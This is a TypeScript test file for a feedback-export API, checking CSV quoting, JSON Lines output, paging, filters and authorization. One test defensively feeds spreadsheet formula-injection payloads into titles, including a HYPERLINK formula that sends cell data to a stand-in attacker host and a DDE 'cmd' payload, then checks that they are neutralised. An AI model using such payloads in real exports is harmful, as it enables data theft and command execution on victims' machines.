import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { EXPORT_PAGE_SIZE } from "../../../core/triage/export-feedbacks.ts";
import { inProcess, type InProcess } from "../../support/in-process.ts";

let http: InProcess;
beforeAll(async () => {
  http = await inProcess();
});
afterAll(() => http.close());

const HEADER = "key,title,kind,status,severity,app,feature,reports,votes,owner,tags,createdAt,lastActivityAt,url";

/** RFC 4180, read strictly: CRLF after each record, a quoted field doubles its quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    const next = text[i + 1];
    i++;
    if (quoted && c === '"' && next === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (quoted) {
      field += c;
    } else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\r" && next === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else {
      field += c;
    }
  }
  if (field || row.length) throw new Error("the last record does not end with CRLF");
  return rows;
}

/** A feedback whose title is `message` as written, line breaks included: a report's title is made one line, the team's is kept. */
async function createFeedback(message: string): Promise<string> {
  const res = await http.request("POST", "/v1/reports", { body: { publicKey: http.demo.publicKey, kind: "idea", message } });
  expect(res.status).toBe(201);
  const titled = await http.request("PATCH", `/v1/feedbacks/${res.body.ticketId}`, { token: http.demo.tokens.admin, body: { title: message } });
  expect(titled.status).toBe(200);
  return res.body.ticketId;
}

describe("GET /v1/feedbacks/export", () => {
  test("CSV: RFC 4180 with the header row, a field with a comma, quotes or a line break quoted, every matching feedback", async () => {
    const tricky = 'Export "quoted", with comma\nand a line';
    const key = await createFeedback(tricky);
    await http.request("PATCH", `/v1/feedbacks/${key}`, {
      token: http.demo.tokens.admin,
      body: { owner: "member@demo.test", tags: ["csv", "export"], severity: "P2", featureId: http.demo.featureId },
    });
    const res = await http.request("GET", "/v1/feedbacks/export?format=csv&tag=csv", { token: http.demo.tokens.reader });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    // Named for the day of the service's clock, so that two exports do not overwrite each other.
    const day = new Date(http.services.clock()).toISOString().slice(0, 10);
    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="feedbacks-${day}.csv"`);
    const rows = parseCsv(res.body);
    expect(rows[0]!.join(",")).toBe(HEADER);
    expect(rows.length).toBe(2);
    const row = Object.fromEntries(HEADER.split(",").map((name, i) => [name, rows[1]![i]]));
    const feature = (await http.request("GET", `/v1/feedbacks/${key}`, { token: http.demo.tokens.reader })).body.feature.path;
    expect(row).toMatchObject({
      key,
      title: tricky,
      kind: "idea",
      status: "triage",
      severity: "P2",
      app: "Demo app",
      feature,
      reports: "1",
      votes: "0",
      owner: "member@demo.test",
      tags: "csv, export",
      url: `${http.url}/inbox/${key}`,
    });
  });

  test("CSV: a field with a line break alone, bare or CRLF, is quoted too: every record reads back whole", async () => {
    const keys = [await createFeedback("Line\nbreak alone"), await createFeedback("Carriage\r\nreturn alone")];
    for (const key of keys) await http.request("PATCH", `/v1/feedbacks/${key}`, { token: http.demo.tokens.admin, body: { tags: ["breaks"] } });
    const res = await http.request("GET", "/v1/feedbacks/export?format=csv&tag=breaks", { token: http.demo.tokens.reader });
    expect(parseCsv(res.body).map((row) => row.slice(0, 2))).toEqual([
      ["key", "title"],
      [keys[1]!, "Carriage\r\nreturn alone"],
      [keys[0]!, "Line\nbreak alone"],
    ]);
    // Many readers (a spreadsheet, Python's csv) end a record at a bare line feed too: it is quoted.
    expect(res.body).toContain(`${keys[0]},"Line\nbreak alone",`);
  });

  test("CSV: a cell a spreadsheet would run as a formula (=, +, -, @ first) is written after a ' and read as text", async () => {
    const titles = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"];
    const keys: string[] = [];
    for (const title of titles) keys.push(await createFeedback(title));
    for (const key of keys) await http.request("PATCH", `/v1/feedbacks/${key}`, { token: http.demo.tokens.admin, body: { tags: ["=formula"] } });
    const res = await http.request("GET", "/v1/feedbacks/export?format=csv&tag=%3Dformula", { token: http.demo.tokens.reader });
    const rows = parseCsv(res.body).slice(1);
    expect(rows.map((row) => row[1]).sort()).toEqual(titles.map((t) => `'${t}`).sort());
    expect(new Set(rows.map((row) => row[10]))).toEqual(new Set(["'=formula"]));
  });

  test("JSON Lines: one feedback summary a line, with the list's filters and order", async () => {
    const [a, b] = [await createFeedback("jsonl first"), await createFeedback("jsonl second")];
    for (const key of [a, b]) await http.request("PATCH", `/v1/feedbacks/${key}`, { token: http.demo.tokens.admin, body: { tags: ["jsonl"] } });
    const res = await http.fetch(`${http.url}/v1/feedbacks/export?format=jsonl&tag=jsonl&sort=activity`, {
      headers: { authorization: `Bearer ${http.demo.tokens.reader}` },
    });
    expect(res.headers.get("content-type")).toBe("application/x-ndjson; charset=utf-8");
    const lines = (await res.text()).split("\n");
    expect(lines.at(-1)).toBe("");
    expect(lines.slice(0, -1).map((l) => JSON.parse(l).key)).toEqual([b, a]);
  });

  test("a due date: JSON Lines gives it with each summary (dueAt), as the list does; the CSV keeps the design's columns, which name none", async () => {
    const key = await createFeedback("export with a due date");
    await http.request("PATCH", `/v1/feedbacks/${key}`, { token: http.demo.tokens.admin, body: { dueAt: "2026-12-15", tags: ["due-export"] } });
    const read = async (format: string) =>
      (
        await http.fetch(`${http.url}/v1/feedbacks/export?format=${format}&tag=due-export`, {
          headers: { authorization: `Bearer ${http.demo.tokens.reader}` },
        })
      ).text();
    expect(JSON.parse((await read("jsonl")).trim())).toMatchObject({ key, dueAt: "2026-12-15T00:00:00.000Z" });
    const listed = await http.request("GET", "/v1/feedbacks?tag=due-export", { token: http.demo.tokens.reader });
    expect(listed.body.data).toEqual([expect.objectContaining({ key, dueAt: "2026-12-15T00:00:00.000Z" })]);
    expect(parseCsv(await read("csv"))[0]!.join(",")).toBe(HEADER);
  });

  test("more feedbacks than one read of the store: every one comes, once, in order", async () => {
    const made: string[] = [];
    for (let i = 0; i < EXPORT_PAGE_SIZE + 7; i++) made.push(await createFeedback(`bulk export item ${i}`));
    const res = await http.request("GET", "/v1/feedbacks/export?format=csv&status=all", { token: http.demo.tokens.admin });
    const keys = parseCsv(res.body)
      .slice(1)
      .map((r) => r[0]);
    expect(keys.filter((k) => made.includes(k!))).toEqual([...made].reverse());
    expect(new Set(keys).size).toBe(keys.length);
  });

  test("a filter is checked as the list's: 400 invalid_query; an empty export is its header; feedbacks:read is needed", async () => {
    for (const query of ["format=xlsx", "status=nope", "limit=5", "format=csv&format=jsonl"]) {
      const res = await http.request("GET", `/v1/feedbacks/export?${query}`, { token: http.demo.tokens.admin });
      expect({ query, status: res.status, code: res.body.code }).toEqual({ query, status: 400, code: "invalid_query" });
    }
    const empty = await http.request("GET", "/v1/feedbacks/export?tag=no-such-tag", { token: http.demo.tokens.admin });
    expect(empty.body).toBe(`${HEADER}\r\n`);
    const none = await http.request("GET", "/v1/feedbacks/export", {});
    expect([none.status, none.body.code]).toEqual([401, "unauthorized"]);
  });
});
